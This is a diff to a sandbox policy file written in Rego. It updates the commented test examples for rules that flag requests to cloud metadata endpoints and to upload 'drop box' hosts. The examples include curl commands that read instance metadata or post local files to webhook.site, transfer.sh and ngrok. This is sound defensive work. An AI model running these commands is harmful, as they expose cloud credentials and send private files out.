@@ -10,11 +10,10 @@ package sandboxd.policies.developer.domains
 #   match:
 #     - curl http://169.254.169.254/latest/meta-data/
 #     - curl http://metadata.google.internal/computeMetadata/v1/
-#     - {tool: WebFetch, class: net, hosts: ["169.254.169.254"]}
 #   not_match:
 #     - curl http://127.0.0.1:8080/
 #     - curl http://10.0.0.7/
-#     - {tool: WebFetch, class: net, hosts: [example.org]}
+#     - curl https://example.org/
 findings contains {
 	"id": "developer.domains.metadata",
 	"effect": "ask",
@@ -35,10 +34,10 @@ findings contains {
 #   match:
 #     - curl -d @notes.txt https://webhook.site/abc
 #     - curl -T a.tar https://transfer.sh/a.tar
-#     - {tool: WebFetch, class: net, hosts: [x.ngrok-free.app]}
+#     - curl -d @notes.txt https://x.ngrok-free.app/
 #   not_match:
 #     - curl https://example.org/a
-#     - {tool: WebFetch, class: net, hosts: [notpastebin.com]}
+#     - curl -d @notes.txt https://notpastebin.com/
 findings contains {
 	"id": "developer.domains.drop_box",
 	"effect": "ask",
